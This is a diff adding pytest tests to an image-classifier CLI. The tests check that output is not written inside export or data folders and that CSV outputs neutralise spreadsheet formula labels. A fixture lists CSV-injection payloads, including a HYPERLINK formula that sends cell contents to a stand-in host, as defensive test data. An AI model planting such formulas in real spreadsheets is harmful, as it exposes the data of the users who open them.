@@ -289,6 +289,57 @@ def test_predict_writes_a_file_and_checks_top_k(export: Path, tmp_path: Path) ->
     assert "--top-k 4 is more than the model's 3 classes" in result.output
 
 
+def test_predict_never_writes_into_the_export_it_reads(export: Path, tmp_path: Path) -> None:
+    copy = shutil.copytree(export, tmp_path / "export")  # not the shared one, should it fail
+    shutil.rmtree(copy / "visualize", ignore_errors=True)  # another test's figures, if any
+    image = read_test_predictions(copy)[0]["path"]
+    for target in (copy / "model.json", copy / "report" / "new.csv"):
+        result = runner.invoke(app, ["predict", str(copy), image, "-o", str(target)])
+        assert result.exit_code == 2, result.output
+        assert f"--output {target} is inside the export folder {copy}" in result.output
+    check_replaceable(copy)  # exactly what the export wrote, model.json included
+    assert automl_clf.load(copy).classes_  # and the next predict reads it
+
+
+# Class names a spreadsheet would run as formulas, from a CSV manifest (OWASP's CSV injection)
+FORMULA_LABELS = ['=HYPERLINK("http://x.test/"&A1,"click")', "+1", "@SUM(A1)"]
+
+
+@pytest.fixture(scope="module")
+def formula_export(tmp_path_factory: pytest.TempPathFactory, digits_root: Path) -> Path:
+    """An export whose three classes are named FORMULA_LABELS (digits 0, 1, 7)."""
+    folder = tmp_path_factory.mktemp("formulas")
+    with (folder / "labels.csv").open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["path", "label"])
+        for digit, label in zip(("0", "1", "7"), FORMULA_LABELS, strict=True):
+            for image in sorted((digits_root / digit).glob("*.png")):
+                writer.writerow([str(image), label])
+    raw = tiny_spec(digits_root, folder, study={"n_trials": 1})
+    raw["data"] = {**raw["data"], "root": None, "manifest": str(folder / "labels.csv")}
+    spec = write_spec(folder / "spec.yaml", raw)
+    result = runner.invoke(app, ["run", str(spec), "--export", str(folder / "export")])
+    assert result.exit_code == 0, result.output
+    return folder / "export"
+
+
+@pytest.mark.slow
+def test_csv_outputs_neutralise_formula_labels_and_json_keeps_them_exact(
+    formula_export: Path,
+) -> None:
+    rows = read_test_predictions(formula_export)
+    written = {row[column] for row in rows for column in ("true", "predicted")}
+    assert written <= {"'" + label for label in FORMULA_LABELS} and len(written) > 1
+    image = rows[0]["path"]
+    result = runner.invoke(app, ["predict", str(formula_export), image, "--top-k", "2"])
+    assert result.exit_code == 0, result.output
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    for column in ("predicted", "top_class", "top_k"):
+        assert row[column][0] == "'" and row[column][1:2] in ("=", "+", "@"), row
+    result = runner.invoke(app, ["predict", str(formula_export), image, "--format", "json"])
+    assert json.loads(result.stdout)[0]["top_class"] in FORMULA_LABELS  # exact, no quote
+
+
 def test_predict_reports_a_bomb_and_a_fifo_and_predicts_the_rest(
     export: Path, tmp_path: Path
 ) -> None:
@@ -424,6 +475,20 @@ def test_best_export_refuses_a_folder_autoclf_did_not_write(
     assert "is not an autoclf export" in result.output and "left untouched" in result.output
     assert sorted(p.name for p in mine.iterdir()) == ["model.json", "thesis.tex"]
     assert (mine / "thesis.tex").read_text() == "years of work"
+
+
+def test_best_export_inside_the_data_folder_is_refused_before_the_retrain(
+    exported: Exported, tmp_path: Path, digits_root: Path
+) -> None:
+    data = shutil.copytree(digits_root, tmp_path / "data")  # the same images: the same study
+    result = runner.invoke(
+        app,
+        ["best", str(exported.spec), "--set", f"data.root={data}", "--export", str(data / "x")],
+    )
+    assert result.exit_code == 2, result.output
+    assert f"--export {data / 'x'} is inside the data folder {data}" in result.output
+    assert "retraining" not in result.output
+    assert sorted(p.name for p in data.iterdir()) == ["0", "1", "7"]
 
 
 def test_an_export_with_anything_added_or_changed_is_not_replaced(
